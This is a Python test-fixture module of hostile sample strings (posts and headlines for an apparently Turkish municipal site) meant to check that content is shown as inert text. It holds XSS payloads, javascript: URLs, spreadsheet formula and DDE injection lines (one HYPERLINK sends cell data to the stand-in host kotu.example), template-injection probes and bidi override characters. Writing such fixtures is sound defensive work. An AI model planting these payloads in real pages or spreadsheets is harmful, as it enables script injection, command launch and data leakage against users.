"""What posts, headlines and notes may contain that must stay text: every page shows some of it."""

from __future__ import annotations

SCRIPT = "<script>document.title='çalındı'</script>"
SHORT = "=cmd|' /C calc'!A0 ‮ters yazı‬"
LONG = "ığüşöç" * 1_666 + "SONU"  # ten thousand letters without a blank
ADDRESS = "javascript:alert(document.domain)"
POSTS = (
    SCRIPT,
    '"><img src=x onerror="document.title=1"><svg/onload=document.title=2>',
    '=HYPERLINK("https://kotu.example/?"&A1;"tıkla")',
    "‮gnp.ığüşöç \u2066yalıtılmış\u2069 مرحبا بالعالم \x07\x1b[31m son \uffff",
    "{{ 7*7 }} {% raw %} ${7*7} #eval *typst* _x_ ]]> &amp;lt; <!-- ",
    LONG,
)
HEADLINES = (
    f"Örnek Belediyesi {SCRIPT}",
    "Örnek Belediyesi ‮ilçede şenlik‬ مرحبا",
    '=HYPERLINK("https://kotu.example";"Örnek Belediyesi")',
    f"Örnek Belediyesi {LONG}",
    '<a href="javascript:alert(1)">Örnek Belediyesi</a> <style>body{display:none}</style>',
)
